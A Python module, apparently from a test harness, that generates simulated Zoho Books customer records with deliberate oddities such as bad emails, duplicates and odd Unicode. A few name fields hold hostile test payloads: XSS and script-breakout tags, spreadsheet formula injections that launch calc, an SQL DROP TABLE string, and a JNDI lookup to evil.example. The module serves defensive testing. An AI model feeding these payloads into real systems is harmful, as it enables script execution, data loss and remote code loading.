"""What real books contain besides good rows: each oddity has fixed places in every 250 customers."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Any

from infra.zoho_sim.people import Record, plain_record

CYCLE = 250
"""Any 250 consecutive customers hold every oddity at least once."""

EMAIL_MAX = 100
LOCAL_PART_MAX = 64

Change = Callable[[Record, Record], Record]
"""Takes the plain customer and the one before it."""


@dataclass(frozen=True, slots=True)
class Oddity:
    """A named change at some places of the cycle."""

    name: str
    places: tuple[int, ...]
    change: Change


def _with(**changes: Any) -> Change:
    return lambda record, _: replace(record, **changes)


def _twin(rewrite: Callable[[str], str] = str, **changes: Any) -> Change:
    """The address of the customer before."""
    return lambda record, before: replace(record, email=rewrite(before.email), **changes)


def _local_part(local: str) -> Change:
    return lambda record, _: replace(record, email=f"{local}@{record.email.partition('@')[2]}")


def _rewritten(rewrite: Callable[[str], str]) -> Change:
    return lambda record, _: replace(record, email=rewrite(record.email))


def _named(name: str) -> Change:
    return _with(contact_name=name, company_name=name)


def _first_named(name: str) -> Change:
    return _with(first_name=name)


def _title_case(email: str) -> str:
    local, _, domain = email.partition("@")
    return f"{local.title()}@{domain.capitalize()}"


def _long_local(email: str) -> str:
    local, _, domain = email.partition("@")
    longest = min(LOCAL_PART_MAX, EMAIL_MAX - len(domain) - 1)
    return f"{local}.{'x' * longest}"[:longest] + f"@{domain}"


ODDITIES: tuple[Oddity, ...] = (
    Oddity("empty_email", (11, 47, 83, 119, 155, 191, 227), _with(email="")),
    Oddity("invalid_no_at", (5,), _rewritten(lambda email: email.replace("@", ""))),
    Oddity("invalid_bare_domain", (41,), _rewritten(lambda email: email.partition("@")[0] + "@aol")),
    Oddity("invalid_two_ats", (77,), _rewritten(lambda email: email.replace("@", "@@"))),
    Oddity("invalid_comma", (113,), _rewritten(lambda email: email.replace(".example", ",example"))),
    Oddity("invalid_blank_inside", (185,), _rewritten(lambda email: email.replace(".", " ", 1))),
    Oddity("invalid_two_addresses", (186,), _rewritten(lambda email: f"{email}; {email}")),
    Oddity("typo_domain", (149,), _rewritten(lambda email: email.partition("@")[0] + "@gnail.com")),
    Oddity("role_info", (8,), _local_part("info")),
    Oddity("role_support", (44,), _local_part("support")),
    Oddity("role_administrator", (80,), _local_part("administrator")),
    Oddity("role_careers", (116,), _local_part("Careers")),
    Oddity("role_webmaster", (152,), _local_part("webmaster")),
    Oddity("role_service", (188,), _local_part("service")),
    Oddity("duplicate_other_case", (15, 51), _twin(str.upper)),
    Oddity("duplicate_exact", (87,), _twin()),
    Oddity("duplicate_inactive", (123,), _twin(active=False)),
    Oddity("duplicate_of_inactive", (159,), _twin()),
    Oddity("inactive", (4, 29, 55, 82, 106, 131, 158, 181, 206, 231), _with(active=False)),
    Oddity("plus_tag", (18, 90), _rewritten(lambda email: email.replace("@", "+billing@"))),
    Oddity("plus_tag_twin", (91,), _twin()),
    Oddity("blanks_around_email", (21,), _rewritten(lambda email: f"  {email} ")),
    Oddity("tab_around_email", (93,), _rewritten(lambda email: f"{email}\t")),
    Oddity("no_break_space_in_email", (94,), _rewritten(lambda email: f"{email}\u00a0")),
    Oddity("unicode_email", (24,), _rewritten(lambda email: email.replace("@", "ß@müller-"))),
    Oddity("mixed_case_email", (75, 105, 172), _rewritten(_title_case)),
    Oddity("long_email", (120,), _rewritten(_long_local)),
    Oddity("null_company", (26, 99), _with(company_name=None)),
    Oddity("bare_custom_fields", (30, 102), _with(custom={}, bare_custom_fields=True)),
    Oddity("no_person", (126, 176), _with(first_name="", last_name="", mobile="")),
    Oddity("numeric_id", (81, 111), _with(numeric_id=True)),
    Oddity("hostile_html", (33,), _named("<img src=x onerror=alert(document.cookie)>")),
    Oddity("hostile_script", (34,), _first_named("</script><script>alert(1)</script>")),
    Oddity("formula_equals", (36,), _named('=HYPERLINK("http://evil.example","Open invoice")')),
    Oddity("formula_plus", (39,), _named("+SUM(A1:A9)*cmd|' /C calc'!A0")),
    Oddity("formula_minus", (42,), _named("-2+3+cmd|' /C calc'!A0")),
    Oddity("formula_at", (45,), _named("@SUM(1+1)*cmd|' /C calc'!A0")),
    Oddity("formula_tab", (48,), _named("\t=1+1")),
    Oddity("long_name", (54,), _named(("Consolidated & Sons International Holdings " * 5)[:200])),
    Oddity("emoji", (57,), _named("🌻 Sunny Side Café 👩🏽‍🍳")),
    Oddity("bidi_override", (60,), _named("\u202egnp.eciovni\u202c Trading")),
    Oddity("csv_breakers", (63,), _named('Smith, "Bob" & Söhne;\r\nAbt. Einkauf')),
    Oddity("sql", (66,), _named("Robert'); DROP TABLE customers;--")),
    Oddity("template", (69,), _first_named("{{7*7}}${jndi:ldap://evil.example/a}")),
    Oddity("zero_width", (72,), _first_named("Ma\u200bria\ufeff")),
    Oddity("decomposed", (73,), _first_named("Zoe\u0308 Ame\u0301lie")),
    Oddity("padded_name", (129,), _named("  Two  Blanks   Ltd ")),
    Oddity("single_letter_name", (134,), _first_named("Ö")),
    Oddity("zero_value", (136,), _with(custom={"cf_vat_id": "0", "cf_newsletter_consent": False})),
)  # fmt: skip

# Places whose last change falls beside a switch of daylight-saving time; the rows themselves are plain.
AROUND_DST_SWITCH = {
    78: "spring_before",
    79: "spring_after",
    108: "autumn_first_1am",
    109: "autumn_second_1am",
}

# Customers who are in the first mailing list already.
MEMBER_ACTIVE = frozenset(
    {7, 17, 37, 67, 97, 107, 117, 127, 137, 147, 157, 167, 177, 187, 197, 207, 217, 237, 247}
)
MEMBER_UNSUBSCRIBED = frozenset({19, 62, 121, 172, 222})
MEMBER_BOUNCED = frozenset({23, 104, 174})
MEMBER_SPELLED_DIFFERENTLY = frozenset({37, 62, 104})
"""In capitals in Campaigns, though not in Books."""
DO_NOT_MAIL = frozenset({133})

_BY_PLACE = {place: oddity for oddity in ODDITIES for place in oddity.places}
if len(_BY_PLACE) != sum(len(oddity.places) for oddity in ODDITIES):
    raise ValueError("two oddities share a place")


def place_of(ordinal: int, seed_number: int) -> int:
    return (ordinal + seed_number) % CYCLE


def oddity_at(ordinal: int, seed_number: int) -> Oddity | None:
    return _BY_PLACE.get(place_of(ordinal, seed_number))


def odd_record(ordinal: int, seed_number: int) -> Record:
    """Build the customer of a place with its oddity, if it has one."""
    record = plain_record(ordinal, seed_number)
    oddity = oddity_at(ordinal, seed_number)
    if oddity is None:
        return record
    before = ordinal - 1 if ordinal else CYCLE - 1
    neighbour = odd_record if oddity.name == "plus_tag_twin" else plain_record
    return oddity.change(record, neighbour(before, seed_number))
